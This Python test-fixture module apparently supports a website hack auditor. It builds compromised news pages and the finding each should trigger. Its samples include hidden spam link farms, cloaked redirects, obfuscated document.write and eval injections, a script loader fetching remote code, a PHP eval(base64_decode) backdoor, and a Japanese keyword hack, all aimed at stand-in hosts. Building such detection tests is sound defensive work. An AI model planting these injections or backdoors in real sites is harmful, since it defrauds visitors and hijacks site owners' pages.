"""What the hackers did: one path for each kind, and what an audit should say of it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import NamedTuple

from hacked_site.articles import article
from hacked_site.template import Built


class Case(NamedTuple):
    """A hacked page: the kind of a finding that has to be there, and its severity at least."""

    kind: str
    severity: str
    build: Callable[[Built], Built]


FARM = "\n".join(
    f'<a href="http://{host}/">{text}</a>'
    for host, text in (
        ("viagra-rx-cheap.example", "buy viagra online"),
        ("cialis-20mg.example", "cheap cialis no prescription"),
        ("slot-gacor-maxwin.example", "situs slot gacor maxwin"),
        ("replica-watches-outlet.example", "replica rolex watches"),
        ("escort-istanbul.example", "istanbul escort bayan"),
    )
)
TEXT = (
    "<p>Buy viagra online without prescription. Cheap generic viagra 100mg, cialis 20mg and levitra at the best price, "
    "free shipping worldwide, no prescription needed. Order viagra online now and save: cheap viagra, cheap cialis.</p>"
)
_COMMENT = (
    '<section class="comments"><h2>2 comments</h2><div class="comment"><b>Ruth</b><p>Thank you for telling us, I had wondered '
    "about the bus.</p></div>"
    '<div class="comment"><b><a href="http://payday-loans-fast.example/">payday loans online</a></b><p>Great post! Get payday loans online '
    'same day, bad credit ok: <a href="http://payday-loans-fast.example/apply">payday loans no credit check</a> '
    '<a href="http://casino-bonus-best.example/">best online casino bonus</a></p></div></section>'
)
TITLE = "Buy Viagra Online - Cheap Generic Viagra No Prescription"


def codes(text: str) -> str:
    """Numbers for String.fromCharCode."""
    return ",".join(str(ord(c)) for c in text)


def _percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


def _script(text: str) -> str:
    return f"<script>{text}</script>"


def _in_body(markup: str) -> Callable[[Built], Built]:
    return lambda page: replace(page, body=f"{page.body}\n{markup}")


def _in_head(markup: str) -> Callable[[Built], Built]:
    return lambda page: replace(page, head=f"{page.head}\n{markup}")


def _in_foot(markup: str) -> Callable[[Built], Built]:
    return lambda page: replace(page, foot=f"{page.foot}\n{markup}")


def _sentence(page: Built) -> Built:
    link = '<a href="http://cialis-20mg.example/buy">buy cialis online no prescription</a>'
    return replace(page, body=page.body.replace("The council has", f"The {link} council has", 1).replace(
        "Until then", f"Until then {link}", 1).replace("A plan hangs", f"A plan {link} hangs", 1).replace(
        "Questions are", f"Questions {link} are", 1))  # fmt: skip


def _doorway(_: Built) -> Built:
    return Built(
        TITLE,
        f"<h1>{TITLE}</h1>{TEXT}<p>{FARM}</p>{TEXT.replace('viagra', 'cialis')}<p>{FARM.replace('.example', '.test')}</p>",
        template=False,
    )


_HIDDEN_BY_CLASS = f'<style>.xq1{{position:absolute;left:-9999px}}</style><div class="xq1">{FARM}</div>'
_PACKED = (
    "eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}"
    'return p}(\'0.1(\\\'<2 3="4://5-6.7/">8 5 9</2> <2 3="4://a-b.7/">b a c</2> <2 3="4://d-e.7/">d e f</2>\\\');\',10,16,'
    "'document|write|a|href|http|viagra|store|example|buy|online|gacor|slot|maxwin|casino|bonus|best'.split('|'),0,{}))"
)
_WRAPPER = _script(
    "document.write('<d'+'iv st'+'yle'+'=\"po'+'si'+'tio'+'n:a'+'bso'+'lu'+'te;l'+'ef'+'t:'+'-'+'10'+'00'+'0'+'p'+'x;'+'\"'+'>');"
)

CASES: dict[str, Case] = {
    "/hacked/farm/": Case("link_farm", "error", _in_body(f"<div>{FARM}</div>")),
    "/hacked/farm-inline/": Case("link_farm", "error", _in_foot(f'<div style="position:absolute;left:-8432px">{FARM}</div>')),
    "/hacked/farm-class/": Case("link_farm", "error", _in_body(_HIDDEN_BY_CLASS)),
    "/hacked/farm-sheet/": Case("link_farm", "error", _in_body(f'<div class="wp-block-spacer-q7">{FARM}</div>')),
    "/hacked/farm-behind/": Case("link_farm", "error", lambda page: replace(page, behind=FARM)),
    "/hacked/farm-first/": Case("link_farm", "error", lambda page: replace(page, before=f"<div>{FARM}</div>")),
    "/hacked/sentence/": Case("inserted_link", "warning", _sentence),
    "/hacked/text/": Case("spam_text", "error", _in_body(TEXT)),
    "/hacked/hidden-text/": Case("hidden_text", "error", _in_body(f'<div style="display:none">{TEXT}</div>')),
    "/hacked/comments/": Case("comment_spam", "warning", _in_body(_COMMENT)),
    "/hacked/doorway/": Case("doorway", "error", _doorway),
    "/hacked/title/": Case("metadata", "error", lambda page: replace(page, head=f"<title>{TITLE}</title>")),
    "/hacked/description/": Case("metadata", "error", lambda page: replace(page, description=TITLE)),
    "/hacked/canonical/": Case("metadata", "warning", lambda page: replace(page, canonical="https://viagra-rx-cheap.example/")),
    "/hacked/hreflang/": Case("metadata", "warning", _in_head('<link rel="alternate" hreflang="th" href="https://bags-outlet.example/th/">')),
    "/hacked/json-ld/": Case("metadata", "error", _in_head(
        f'<script type="application/ld+json">{{"@type":"Article","headline":"{TITLE}"}}</script>')),
    "/hacked/alt/": Case("metadata", "error", _in_body(f'<p><img src="/theme/square.jpg" alt="{TITLE}"></p>')),
    "/hacked/refresh/": Case("redirect", "error", _in_head('<meta http-equiv="refresh" content="0;url=https://casino-bonus-best.example/">')),
    "/hacked/base/": Case("metadata", "warning", _in_head('<base href="https://bags-outlet.example/">')),
    "/hacked/script-codes/": Case("script", "error", _in_body(_script(f"document.write(String.fromCharCode({codes(FARM)}))"))),
    "/hacked/script-layers/": Case("script", "error", _in_body(_script(
        f"eval(unescape('{_percent(f'document.write(unescape({chr(34)}{_percent(FARM)}{chr(34)}))')}'))"))),
    "/hacked/script-packed/": Case("script", "error", _in_body(_script(_PACKED))),
    "/hacked/script-wrapper/": Case("link_farm", "error", _in_body(f"{_WRAPPER}{FARM}</div>")),
    "/hacked/script-loader/": Case("script", "error", lambda page: replace(page, behind=_script(
        f"var s=document.createElement('script');s.src=String.fromCharCode({codes('https://stat-count.example/j.js')});document.head.appendChild(s)"))),
    "/hacked/script-referrer/": Case("redirect", "error", _in_body(_script(
        "var r=document.referrer;if(/google|bing|yahoo/.test(r)){setTimeout(function(){location.href='https://casino-bonus-best.example/'},50)}"))),
    "/hacked/script-agent/": Case("redirect", "error", _in_body(_script(
        "if(!/bot|crawl|slurp/i.test(navigator.userAgent)&&document.cookie.indexOf('v=1')<0){location.replace(atob('aHR0cHM6Ly9jYXNpbm8tYm9udXMtYmVzdC5leGFtcGxlLw=='))}"))),
    "/hacked/php/": Case("server_code", "error", _in_foot(
        "<?php if(preg_match('/googlebot|bing/i',$_SERVER['HTTP_USER_AGENT'])){eval(base64_decode($x));echo file_get_contents('http://links-feed.example/');} ?>")),
    "/hacked/frame/": Case("foreign_script", "warning", _in_foot('<iframe src="https://traffic-gate.example/in" width="1" height="1"></iframe>')),
    "/hacked/open-redirect/": Case("open_redirect", "error", _in_body('<p>See <a href="/go?url=http://slot-gacor-maxwin.example/">here</a>.</p>')),
}  # fmt: skip

_BAGS = (
    "激安ブランド財布コピー、送料無料の通販専門店。ルイヴィトン偽物を格安で販売しています。人気のグッチ、シャネル、エルメスのスーパーコピー品を"
    "取り揃えております。最高品質のブランドコピー時計、バッグ、財布を激安価格で提供いたします。口コミで評判の優良店、後払い可能。"
)


def stranger(number: int) -> Built:
    """A page of the Japanese keyword hack."""
    links = " ".join(
        f'<a href="/item/{(number + k) % 6}.html">ルイヴィトン 財布 コピー {number + k}</a>'
        for k in range(1, 4)
    )
    goods = (
        "ルイヴィトン 財布",
        "グッチ バッグ",
        "ロレックス 時計",
        "シャネル 香水",
        "エルメス ベルト",
        "プラダ 靴",
    )[number % 6]
    body = f"<h1>{goods} 激安 コピー 通販</h1><p>{goods}。{_BAGS}</p><p>{links}</p><p>{_BAGS}{goods} 激安 通販 送料無料</p>"
    return Built(f"{goods} 激安 コピー 通販 {number}", body, lang="ja", template=False)


STRANGERS = {f"/item/{number}.html": stranger(number) for number in range(6)}


def hacked(path: str) -> Built:
    """The page at a path of CASES as the hackers left it."""
    return CASES[path].build(honest(path))


def honest(path: str) -> Built:
    """The same page as it was before."""
    number = 100 + list(CASES).index(path)
    text = article(number)
    return Built(text.title, text.html, text.description)
